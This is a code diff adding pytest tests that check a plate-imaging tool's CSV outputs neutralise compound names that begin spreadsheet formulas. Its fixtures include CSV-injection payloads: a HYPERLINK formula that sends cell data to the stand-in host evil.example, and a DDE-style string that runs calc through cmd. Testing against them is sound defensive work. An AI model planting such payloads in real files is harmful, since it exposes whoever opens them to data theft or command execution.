@@ -187,3 +187,58 @@ def test_links_out_of_the_plate_and_odd_files_fail_their_field_naming_what_they_
     for name in ("failures.csv", "report.html", "fields.csv", "summary.json"):
         text = (out / name).read_text(encoding="utf-8")
         assert "SECRET" not in text and "root:x" not in text and "b'root" not in text, name
+
+
+def test_compound_names_that_start_a_formula_are_text_in_the_csvs(tmp_path, tiny_model):
+    import pyarrow.parquet as pq
+
+    from appliance.result_files import read_results
+
+    plate, out = tmp_path / "P1", tmp_path / "out"
+    write_plate(plate, wells=("B02", "B03", "C02", "C03"), sites=(1,))
+    compounds = {
+        "B02": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "B03": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "C02": "-2+3",
+        "C03": "'=already quoted",
+    }
+    with open(tmp_path / "map.csv", "w", newline="", encoding="utf-8") as f:
+        writer = csv.writer(f)
+        writer.writerow(["well", "compound", "concentration"])
+        writer.writerows([well, compound, "-0.5"] for well, compound in compounds.items())
+    result = CliRunner().invoke(
+        app,
+        [
+            "classify",
+            str(plate),
+            "--model",
+            str(tiny_model),
+            "--out",
+            str(out),
+            "--platemap",
+            str(tmp_path / "map.csv"),
+        ],
+    )
+    assert result.exit_code == 0, result.output
+    for name in ("fields.csv", "wells.csv"):
+        assert {r["Metadata_Well"]: r["Metadata_Compound"] for r in rows(out / name)} == {
+            well: "'" + compound
+            for well, compound in compounds.items()  # a spreadsheet shows it as text
+        }
+    treatments = rows(out / "treatments.csv")
+    assert sorted(r["Metadata_Compound"] for r in treatments) == sorted("'" + c for c in compounds.values())
+    for row in rows(out / "fields.csv") + treatments:
+        assert row["Metadata_Concentration"] == "-0.500000"  # a number stays a number
+    parquet = pq.read_table(out / "fields.parquet").to_pylist()
+    assert {r["Metadata_Well"]: r["Metadata_Compound"] for r in parquet} == compounds  # Parquet keeps the text
+    assert {r["Metadata_Well"]: r["Metadata_Compound"] for r in read_results(out).fields} == compounds
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''@x", "'plain", "plain", "", "'"])
+def test_a_neutralised_cell_reads_back_as_written(text):
+    from appliance.safe_text import neutralise_formula, restore_formula, starts_formula
+
+    written = neutralise_formula(text)
+    assert restore_formula(written) == text
+    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert (written != text) == starts_formula(text)
